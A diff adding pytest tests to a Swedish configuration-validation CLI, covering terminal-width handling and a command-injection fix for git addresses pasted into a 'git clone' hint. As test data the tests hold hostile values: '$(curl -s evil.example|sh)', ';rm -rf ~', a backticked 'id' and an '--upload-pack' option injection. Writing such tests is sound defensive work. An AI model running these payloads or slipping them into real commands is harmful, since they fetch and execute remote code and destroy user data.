@@ -139,3 +139,68 @@ def test_ordinary_contact_details_pass(cli, make_repo, key: str, value: str) -> 
     )
     result = cli("validate", root)
     assert "kontakt.yaml" not in result.output, result.output
+
+
+@pytest.mark.parametrize("columns", ["abc", "-5", "1", "0", ""])
+def test_any_columns_value_keeps_the_findings_text(example, columns: str) -> None:
+    # A47: COLUMNS=abc was an internal error, -5 printed nothing, 1 a table of empty cells.
+    import os
+
+    root = example("torsby")
+    result = subprocess.run(
+        [sys.executable, "-m", "brottsforeb", "check", str(root), "--today", "2030-01-01"],
+        capture_output=True,
+        text=True,
+        encoding="utf-8",
+        env={**os.environ, "COLUMNS": columns},
+        check=False,
+    )
+    assert result.returncode == 1, result.stderr
+    assert "internt fel" not in result.stderr
+    assert "fel" in result.stdout.splitlines()[-1]
+    assert "Riktlinje" in result.stdout, result.stdout[:400]
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("git", "https://example.com/x.git $(curl -s evil.example|sh) #"),
+        ("git", "https://example.com/x.git;rm -rf ~"),
+        ("git", "`id`"),
+        ("revision", "--upload-pack=touch /tmp/x"),
+        ("revision", "v1 v2"),
+    ],
+)
+def test_a_collaboration_address_cannot_carry_a_shell_command(
+    cli, make_repo, key: str, value: str
+) -> None:
+    # A48: the git address went unquoted into a "git clone …" hint meant to be pasted.
+    fields = {"git": "https://example.com/samverkan.git", "revision": "v1", key: value}
+    root = make_repo()
+    with (root / "bfa.yaml").open("a", encoding="utf-8") as f:
+        f.write(
+            "ingår_i_samverkan:\n"
+            "  - id: sl\n"
+            f"    git: '{fields['git']}'\n"
+            f"    revision: '{fields['revision']}'\n"
+            "    delar: [organ/samverkansgrupp]\n"
+        )
+    result = cli("validate", root, "--format", "json")
+    assert result.exit_code == 1, result.output
+    assert f"ingår_i_samverkan[1].{key}" in result.output
+    assert "git clone" not in result.output
+
+
+def test_the_clone_hint_quotes_what_it_pastes(cli, make_repo, tmp_path) -> None:
+    root = make_repo()
+    with (root / "bfa.yaml").open("a", encoding="utf-8") as f:
+        f.write(
+            "ingår_i_samverkan:\n"
+            "  - id: sl\n"
+            "    git: 'https://example.com/samverkan.git'\n"
+            "    revision: v1\n"
+            "    klon: '../klon med mellanslag'\n"
+            "    delar: [organ/samverkansgrupp]\n"
+        )
+    out = cli("validate", root, "--format", "json").output
+    assert "git clone https://example.com/samverkan.git '" in out, out
